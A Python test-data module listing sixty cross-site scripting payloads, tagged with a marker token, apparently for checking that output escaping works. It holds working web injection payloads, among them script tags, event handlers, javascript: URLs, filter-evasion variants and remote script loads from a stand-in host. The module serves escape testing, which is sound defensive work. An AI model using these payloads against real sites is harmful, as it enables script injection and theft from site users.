"""Sixty texts that become code where output is not escaped, for the context each was made for."""

from __future__ import annotations

TANDA = "xq1zq7"
"""Stands in every payload (below as xq1); may appear in text and attribute values only. Long enough that no random id
in an address of a page holds it by chance."""

_DASAR = """
<script>xq1()</script>
<SCRIPT SRC=//xq1.example></SCRIPT>
<scr<script>ipt>xq1()</scr</script>ipt>
</title><script>xq1()</script>
</textarea><script>xq1()</script>
</script><script>xq1()</script>
<!--><script>xq1()</script>-->
<img src=x onerror=xq1()>
<img src=x onerror="xq1()">
<img/src=x/onerror=xq1()>
<img src="x` `<script>xq1()</script>"` `>
<svg onload=xq1()>
<svg><script>xq1()</script></svg>
<svg/onload=&#120;q1()>
<body onload=xq1()>
<iframe src=javascript:xq1()>
<iframe srcdoc="<script>xq1()</script>">
<object data=javascript:xq1()>
<embed src=javascript:xq1()>
<form action=javascript:xq1()><button>xq1
<button formaction=javascript:xq1()>xq1
<a href=javascript:xq1()>xq1</a>
<a href="data:text/html,xq1">xq1</a>
<a href="//xq1.example">xq1</a>
<base href=//xq1.example>
<link rel=stylesheet href=//xq1.example>
<meta http-equiv=refresh content="0;url=//xq1.example">
<style>*{background:url(//xq1.example)}</style>
<div style=background:url(//xq1.example)>
<input autofocus onfocus=xq1()>
<select autofocus onfocus=xq1()>
<details open ontoggle=xq1()>xq1
<marquee onstart=xq1()>xq1
<video><source onerror=xq1()>
<audio src=x onerror=xq1()>
<math><mi xlink:href=javascript:xq1()>xq1
<template><script>xq1()</script></template>
<noscript><p title="</noscript><script>xq1()</script>">
" onmouseover="xq1()
' onmouseover='xq1()
` onmouseover=`xq1()
" autofocus onfocus=xq1() x="
"><script>xq1()</script>
'><script>xq1()</script>
xq1 onclick=xq1()
javascript:xq1()
JaVaScRiPt:xq1()
{{7*7}}xq1
{% raw %}xq1
${7*7}xq1
<div hx-get=/xq1 hx-trigger=load>
<div data-hx-get=/xq1 data-hx-trigger=load>
<p hx-on:click=xq1()>
" hx-get="/xq1" hx-trigger="load
<x-xq1 onclick=xq1()>
&lt;script&gt;xq1()&lt;/script&gt;
%3Cscript%3Exq1()%3C/script%3E
<script>xq1()</script
＜script＞xq1()＜/script＞
<img src=x:xq1 onerror=eval(src)>
"""
MUATAN: tuple[str, ...] = tuple(b.replace("q1", TANDA[1:]) for b in _DASAR.splitlines() if b)
assert len(MUATAN) == 60
